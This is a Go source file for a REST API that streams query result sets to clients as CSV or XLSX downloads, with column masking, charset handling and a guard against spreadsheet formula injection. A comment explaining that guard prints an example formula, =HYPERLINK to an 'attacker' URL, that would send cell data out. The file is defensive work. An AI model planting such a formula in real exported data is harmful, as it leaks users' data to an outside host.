package restapi

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/htmlindex"
	"golang.org/x/text/encoding/unicode"

	"github.com/golinkis/golinkis/api"
	"github.com/golinkis/golinkis/linkis"
)

// Downloads of result sets (Linkis's resultsetToExcel and
// resultsetsToExcel): CSV or XLSX, streamed from the ECM that keeps the
// set to the client row by row. Nothing holds the result: a CSV row is
// decoded, written and forgotten; an XLSX sheet is written by excelize's
// stream writer, which keeps its rows in a temporary file, not in memory.
// A problem found before the first byte is answered with an envelope; one
// found after (the ECM went away mid-file) aborts the connection, so that
// a client never takes a cut file for a whole one.

// xlsxContentType is the media type of an XLSX download.
const xlsxContentType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

// maxXLSXRows is the rows a sheet holds besides its header.
const maxXLSXRows = 1<<20 - 1

// exportOptions are resultsetToExcel's parameters.
type exportOptions struct {
	charset     encoding.Encoding // nil: UTF-8
	format      string            // csv | xlsx
	separator   string
	quoteAll    bool
	fileName    string
	sheetName   string
	nullValue   string
	limit       int      // rows, 0: all
	masked      []string // columns left out
	keepNewline bool
}

func (h *handler) exportOptions(c *apiCall) (exportOptions, error) {
	q := c.r.URL.Query()
	o := exportOptions{format: "csv", separator: ",", fileName: "downloadResultset", sheetName: "result", nullValue: "NULL",
		limit: h.cfg.MaxExportRows}
	if v := q.Get("outputFileType"); v != "" {
		o.format = strings.ToLower(v)
	}
	if o.format != "csv" && o.format != "xlsx" {
		return o, linkis.ValueError(linkis.ErrInvalidArgument, "outputFileType", clip(o.format), "csv or xlsx")
	}
	// Linkis reads csvSeparator, and csvSeperator (its first spelling).
	for _, k := range []string{"csvSeperator", "csvSeparator"} {
		if v := q.Get(k); v != "" && v != "," {
			o.separator = v
		}
	}
	if utf8Len := len([]rune(o.separator)); utf8Len != 1 || o.separator == "\"" || o.separator == "\n" || o.separator == "\r" {
		return o, linkis.ValueError(linkis.ErrInvalidArgument, "csvSeparator", clip(o.separator), "one character, not a quote or a line break")
	}
	if cs := q.Get("charset"); cs != "" {
		enc, err := htmlindex.Get(cs)
		if err != nil {
			return o, checkCharset(cs)
		}
		if enc != unicode.UTF8 {
			o.charset = enc
		}
	}
	var err error
	if o.quoteAll, err = boolParam(c.r, "quoteRetouchEnable", false); err != nil {
		return o, err
	}
	if o.keepNewline, err = boolParam(c.r, "keepNewline", false); err != nil {
		return o, err
	}
	if v := q.Get("outputFileName"); v != "" {
		o.fileName = v
	}
	if v := q.Get("sheetName"); v != "" {
		o.sheetName = v
	}
	if len(o.fileName) > 200 || len(o.sheetName) > 31 {
		return o, linkis.Errorf(linkis.ErrInvalidArgument, "outputFileName", "a file name is at most 200 bytes, a sheet name 31")
	}
	if q.Has("nullValue") {
		o.nullValue = q.Get("nullValue")
		if strings.EqualFold(o.nullValue, "BLANK") {
			o.nullValue = ""
		}
	}
	if limit, err := intParam(c.r, "limit", 0, 0); err != nil {
		return o, err
	} else if limit > 0 {
		o.limit = limit
	}
	if v := q.Get("maskedFieldNames"); v != "" {
		for _, f := range strings.Split(v, ",") {
			if f = strings.TrimSpace(f); f != "" {
				o.masked = append(o.masked, f)
			}
		}
	}
	return o, nil
}

// contentDisposition names a download, in ASCII and (RFC 5987) UTF-8.
func contentDisposition(name string) string {
	ascii := strings.Map(func(r rune) rune {
		if r < 0x20 || r >= 0x7f || r == '"' || r == '\\' || r == ';' {
			return '_'
		}
		return r
	}, name)
	return fmt.Sprintf("attachment;filename=\"%s\"; filename*=UTF-8''%s", ascii, url.PathEscape(name))
}

// resultReader reads a result-set file row by row.
type resultReader struct {
	rc     io.ReadCloser
	br     *bufio.Reader
	header api.ResultSetHeader
	keep   []int // the columns written, in order
	row    int
	cells  []rowCell // the last row's, reused
	kept   []rowCell
}

// openRows opens one of owner's result sets for export: the header is
// read, the masked columns dropped.
func (h *handler) openRows(c *apiCall, owner, p string, masked []string) (*resultReader, error) {
	rc, _, err := h.jobs.OpenResult(readCtx(c.r), owner, p)
	if err != nil {
		return nil, resultErr(p, err)
	}
	rr := &resultReader{rc: rc, br: bufio.NewReaderSize(rc, 256<<10)}
	line, err := rr.line()
	if err == io.EOF {
		err = linkis.Errorf(linkis.ErrMalformed, "resultSet", "empty: a header line is required")
	}
	if err == nil {
		rr.header, err = api.DecodeResultHeader(line)
	}
	if err != nil {
		rc.Close()
		return nil, err
	}
	for i, col := range rr.header.Columns {
		if !slices.Contains(masked, col.Name) {
			rr.keep = append(rr.keep, i)
		}
	}
	return rr, nil
}

// line reads one line without its "\n" (io.EOF at the end).
func (rr *resultReader) line() ([]byte, error) {
	var buf []byte
	for {
		chunk, err := rr.br.ReadSlice('\n')
		if len(buf)+len(chunk) > api.MaxResultLine+1 {
			return nil, linkis.Errorf(linkis.ErrMalformed, "resultSet", "a line is longer than %d bytes", api.MaxResultLine)
		}
		switch err {
		case nil:
			if buf == nil {
				return chunk[:len(chunk)-1], nil
			}
			return append(buf, chunk[:len(chunk)-1]...), nil
		case bufio.ErrBufferFull:
			buf = append(buf, chunk...)
		case io.EOF:
			if len(buf)+len(chunk) == 0 {
				return nil, io.EOF
			}
			return append(buf, chunk...), nil
		default:
			return nil, err
		}
	}
}

// next returns the next row's kept cells (io.EOF after the last), valid
// until the next call.
func (rr *resultReader) next() ([]rowCell, error) {
	line, err := rr.line()
	if err != nil {
		return nil, err
	}
	rr.row++
	rr.cells, err = splitRow(line, rr.cells)
	if err != nil {
		row, derr := api.DecodeResultRow(line, len(rr.header.Columns))
		if derr != nil {
			return nil, linkis.Errorf(linkis.ErrMalformed, "resultSet.rows", "row %d: %v", rr.row, derr)
		}
		rr.cells = cellsOf(row, rr.cells)
	}
	if len(rr.cells) != len(rr.header.Columns) {
		return nil, linkis.Errorf(linkis.ErrMalformed, "resultSet.rows", "row %d has %d values for %d columns", rr.row, len(rr.cells), len(rr.header.Columns))
	}
	if len(rr.keep) == len(rr.cells) {
		return rr.cells, nil
	}
	rr.kept = rr.kept[:0]
	for _, j := range rr.keep {
		rr.kept = append(rr.kept, rr.cells[j])
	}
	return rr.kept, nil
}

func (rr *resultReader) names() []string {
	out := make([]string, len(rr.keep))
	for i, j := range rr.keep {
		out[i] = rr.header.Columns[j].Name
	}
	return out
}

func (rr *resultReader) Close() error { return rr.rc.Close() }

// abort ends a download that has begun: the client sees a broken
// response, never a short file taken for a whole one.
func (h *handler) abort(c *apiCall, what string, err error) {
	h.cfg.Logger.Error("restapi: download cut short", "user", c.user, "what", what, "err", err)
	panic(http.ErrAbortHandler)
}

// resultsetToExcel downloads one result set as CSV or XLSX.
func (h *handler) resultsetToExcel(c *apiCall) *reply {
	p := c.r.URL.Query().Get("path")
	if err := checkPath(p); err != nil {
		return &reply{err: err}
	}
	o, err := h.exportOptions(c)
	if err != nil {
		return &reply{err: err}
	}
	owner, err := h.resultOwner(c, p)
	if err != nil {
		return &reply{err: err}
	}
	rr, err := h.openRows(c, owner, p, o.masked)
	if err != nil {
		return &reply{err: err}
	}
	defer rr.Close()
	if o.format == "xlsx" {
		if rr.header.Type != "table" {
			return &reply{err: linkis.Errorf(linkis.ErrInvalidArgument, "outputFileType", "a text result set is downloaded as csv, not xlsx")}
		}
		return h.writeXLSX(c, o, []*resultReader{rr}, []string{o.sheetName})
	}
	c.w.Header().Set("Content-Type", "text/plain; charset="+charsetName(o.charset))
	c.w.Header().Set("Content-Disposition", contentDisposition(o.fileName+".csv"))
	var w io.Writer = c.w
	if o.charset != nil {
		w = o.charset.NewEncoder().Writer(c.w)
	}
	if err := writeCSV(w, rr, o); err != nil {
		h.abort(c, p, err)
	}
	return &reply{written: true}
}

func charsetName(e encoding.Encoding) string {
	if e == nil {
		return "utf-8"
	}
	if n, err := htmlindex.Name(e); err == nil {
		return n
	}
	return "utf-8"
}

// writeCSV writes a header line of the kept columns' names and a line
// per row (a text result: its lines as they are).
func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
	bw := bufio.NewWriterSize(w, 256<<10)
	if rr.header.Type == "text" {
		g := textGuard{sep: []byte(o.separator)}
		var line, out []byte
		for n := 0; o.limit == 0 || n < o.limit; n++ {
			row, err := rr.next()
			if err == io.EOF {
				break
			}
			if err != nil {
				return err
			}
			line = line[:0]
			for _, v := range row {
				line = appendCell(line, v, o.nullValue)
			}
			out = g.guard(out[:0], line)
			bw.Write(out)
			bw.WriteByte('\n')
		}
		return bw.Flush()
	}
	sep := o.separator
	special := sep + "\"\r\n"
	field := func(i int, b []byte, guard bool) {
		if i > 0 {
			bw.WriteString(sep)
		}
		if !o.quoteAll && !bytes.ContainsAny(b, special) {
			if guard {
				bw.WriteByte('\'')
			}
			bw.Write(b)
			return
		}
		s := string(b)
		if guard {
			s = "'" + s
		}
		if !o.keepNewline && strings.ContainsAny(s, "\r\n") {
			s = strings.NewReplacer("\r\n", " ", "\n", " ", "\r", " ").Replace(s)
		}
		if o.quoteAll || strings.ContainsAny(s, special) {
			bw.WriteByte('"')
			bw.WriteString(strings.ReplaceAll(s, `"`, `""`))
			bw.WriteByte('"')
			return
		}
		bw.WriteString(s)
	}
	null := []byte(o.nullValue)
	for i, n := range rr.names() {
		field(i, []byte(n), formulaLike([]byte(n)))
	}
	bw.WriteByte('\n')
	for n := 0; o.limit == 0 || n < o.limit; n++ {
		row, err := rr.next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return err
		}
		for i, v := range row {
			switch {
			case v.kind == cellNull:
				field(i, null, false)
			case v.kind == cellString && formulaLike(v.text):
				// A number kept as text stays a number.
				field(i, v.text, !isNumber(v.text))
			default:
				field(i, v.text, false)
			}
		}
		bw.WriteByte('\n')
	}
	return bw.Flush()
}

// formulaLike reports whether a spreadsheet would take a cell beginning
// so for a formula (or, for tab and carriage return, hide a formula
// after them): '=', '+', '-', '@' (OWASP's "CSV injection"). A CSV
// download writes such a text cell with a leading "'", which spreadsheets
// read as "this is text" and do not show: a result cell
// =HYPERLINK("http://attacker/?"&B2) - data of a shared table, another
// user's result an administrator exports - would otherwise run on the
// downloader's machine. Numbers (JSON numbers, and numbers kept as text
// in any column) are left as they are: -5 is a number, no formula.
func formulaLike(b []byte) bool {
	return len(b) > 0 && strings.IndexByte("=+-@\t\r", b[0]) >= 0
}

// isNumber reports whether b is a plain decimal number, as a spreadsheet
// reads one: ParseFloat's, in digits, sign, point and exponent only
// (not -Inf, NaN or hexadecimal, which a spreadsheet reads as names).
func isNumber(b []byte) bool {
	for _, c := range b {
		if strings.IndexByte("0123456789+-.eE", c) < 0 {
			return false
		}
	}
	_, err := strconv.ParseFloat(string(b), 64)
	return err == nil
}

// appendCell appends a cell's text, a null as nullValue.
func appendCell(dst []byte, v rowCell, nullValue string) []byte {
	if v.kind == cellNull {
		return append(dst, nullValue...)
	}
	return append(dst, v.text...)
}

// textGuard applies the formula guard to a text result downloaded as
// CSV: its lines are written as they are, but a spreadsheet opening the
// file splits them into cells - at each separator, and at each line
// break outside a quoted cell, a quoted cell running on over lines as
// CSV allows - and a cell a line starts there with '=', '+', '-', '@',
// tab or carriage return is a formula like a table's cell (a script
// printing a shared table's data, another user's output an administrator
// exports). textGuard follows the cells as a spreadsheet reads them,
// across lines, and writes "'" before a cell that is formulaLike and not
// a plain number (-1.5 stays -1.5).
type textGuard struct {
	sep    []byte
	quoted bool // inside a quoted cell that an earlier line opened
}

// guard appends line, guarded, to dst. (A quoted cell is guarded
// whenever its text begins as a formula, a number too: its end may be
// lines away.)
func (g *textGuard) guard(dst, line []byte) []byte {
	for i := 0; ; {
		if g.quoted {
			// The rest of a quoted cell: to its closing quote ("" is a
			// quote in it), then literal text to the separator.
			for i < len(line) && g.quoted {
				switch {
				case line[i] != '"':
				case i+1 < len(line) && line[i+1] == '"':
					dst = append(dst, '"')
					i++
				default:
					g.quoted = false
				}
				dst = append(dst, line[i])
				i++
			}
			if g.quoted {
				return dst
			}
			end := g.cellEnd(line, i)
			dst = append(dst, line[i:end]...)
			i = end
		} else {
			// A cell begins at i.
			if i < len(line) && line[i] == '"' {
				g.quoted = true
				dst = append(dst, '"')
				if i++; formulaLike(line[i:]) {
					dst = append(dst, '\'')
				}
				continue
			}
			end := g.cellEnd(line, i)
			if cell := line[i:end]; formulaLike(cell) && !isNumber(cell) {
				dst = append(dst, '\'')
			}
			dst = append(dst, line[i:end]...)
			i = end
		}
		if i == len(line) {
			return dst
		}
		// The separator or line break that ends the cell.
		n := 1
		if bytes.HasPrefix(line[i:], g.sep) {
			n = len(g.sep)
		}
		dst = append(dst, line[i:i+n]...)
		i += n
	}
}

// cellEnd is where an unquoted cell from i ends: at the next separator
// or line break (a text cell may hold one), else at the line's end.
func (g *textGuard) cellEnd(line []byte, i int) int {
	for j := i; j < len(line); j++ {
		if line[j] == '\n' || line[j] == '\r' || bytes.HasPrefix(line[j:], g.sep) {
			return j
		}
	}
	return len(line)
}

// xlsxCell is a cell as excelize writes it: numbers as numbers (when a
// float64 holds them exactly enough to read back; else text), booleans
// as booleans, nulls as nullValue.
func xlsxCell(v rowCell, nullValue string) any {
	switch v.kind {
	case cellNull:
		return nullValue
	case cellNumber:
		n := json.Number(v.text)
		if i, err := n.Int64(); err == nil && i > -1<<53 && i < 1<<53 {
			return i
		}
		if f, err := n.Float64(); err == nil && !bytes.ContainsAny(v.text, "eE") && len(v.text) <= 16 {
			return f
		}
		return string(v.text)
	case cellBool:
		return v.text[0] == 't'
	}
	return string(v.text)
}

// writeXLSX writes the result sets as the sheets of one workbook, each
// with a header row. A set of more rows than a sheet holds is refused
// before anything is written.
func (h *handler) writeXLSX(c *apiCall, o exportOptions, sets []*resultReader, sheets []string) *reply {
	f := excelize.NewFile()
	defer f.Close()
	for i, rr := range sets {
		if i == 0 {
			if err := f.SetSheetName("Sheet1", sheets[0]); err != nil {
				return &reply{err: linkis.ValueError(linkis.ErrInvalidArgument, "sheetName", clip(sheets[0]), err.Error())}
			}
		} else if _, err := f.NewSheet(sheets[i]); err != nil {
			return &reply{err: linkis.ValueError(linkis.ErrInvalidArgument, "sheetName", clip(sheets[i]), err.Error())}
		}
		sw, err := f.NewStreamWriter(sheets[i])
		if err != nil {
			return &reply{err: err}
		}
		head := make([]any, 0, len(rr.keep))
		for _, n := range rr.names() {
			head = append(head, n)
		}
		if err := sw.SetRow("A1", head); err != nil {
			return &reply{err: err}
		}
		vals := make([]any, len(rr.keep))
		for n := 0; o.limit == 0 || n < o.limit; n++ {
			row, err := rr.next()
			if err == io.EOF {
				break
			}
			if err != nil {
				return &reply{err: err}
			}
			if n >= maxXLSXRows {
				return &reply{err: linkis.Errorf(linkis.ErrInvalidArgument, "outputFileType",
					"result set %d has more than %d rows, more than a sheet holds: download it as csv, or set limit", i+1, maxXLSXRows)}
			}
			for j, v := range row {
				vals[j] = xlsxCell(v, o.nullValue)
			}
			cell, _ := excelize.CoordinatesToCellName(1, n+2)
			if err := sw.SetRow(cell, vals); err != nil {
				return &reply{err: err}
			}
		}
		if err := sw.Flush(); err != nil {
			return &reply{err: err}
		}
	}
	c.w.Header().Set("Content-Type", xlsxContentType)
	c.w.Header().Set("Content-Disposition", contentDisposition(o.fileName+".xlsx"))
	if _, err := f.WriteTo(c.w); err != nil {
		h.abort(c, "xlsx", err)
	}
	return &reply{written: true}
}

// resultsetsToExcel downloads every result set of a job (path: its
// resultLocation) as the sheets of one XLSX workbook, in order; every set
// must be a table.
func (h *handler) resultsetsToExcel(c *apiCall) *reply {
	p := c.r.URL.Query().Get("path")
	if err := checkPath(p); err != nil {
		return &reply{err: err}
	}
	o, err := h.exportOptions(c)
	if err != nil {
		return &reply{err: err}
	}
	user, taskID, err := h.jobs.ParseResultLocation(p)
	if err != nil || taskID == 0 {
		return &reply{err: linkis.ValueError(linkis.ErrPermission, "path", clip(p), "not one of your result directories")}
	}
	if err := c.mayRead(user); err != nil {
		return &reply{err: err}
	}
	job, err := h.jobs.JobAny(readCtx(c.r), taskID)
	if err == nil && job.User != user {
		err = linkis.Errorf(linkis.ErrPermission, "path", "not one of your result directories")
	}
	if err != nil {
		return &reply{err: err}
	}
	if len(job.Results) == 0 {
		return &reply{err: linkis.ValueError(linkis.ErrInvalidArgument, "path", clip(p), "the job has no result sets")}
	}
	var sets []*resultReader
	defer func() {
		for _, rr := range sets {
			rr.Close()
		}
	}()
	sheets := make([]string, 0, len(job.Results))
	for i, r := range job.Results {
		rr, err := h.openRows(c, user, r, o.masked)
		if err != nil {
			return &reply{err: err}
		}
		sets = append(sets, rr)
		if rr.header.Type != "table" {
			return &reply{err: linkis.Errorf(linkis.ErrInvalidArgument, "path", "result set %d is text: only tables are downloaded as xlsx", i+1)}
		}
		sheets = append(sheets, "result"+strconv.Itoa(i+1))
	}
	return h.writeXLSX(c, o, sets, sheets)
}
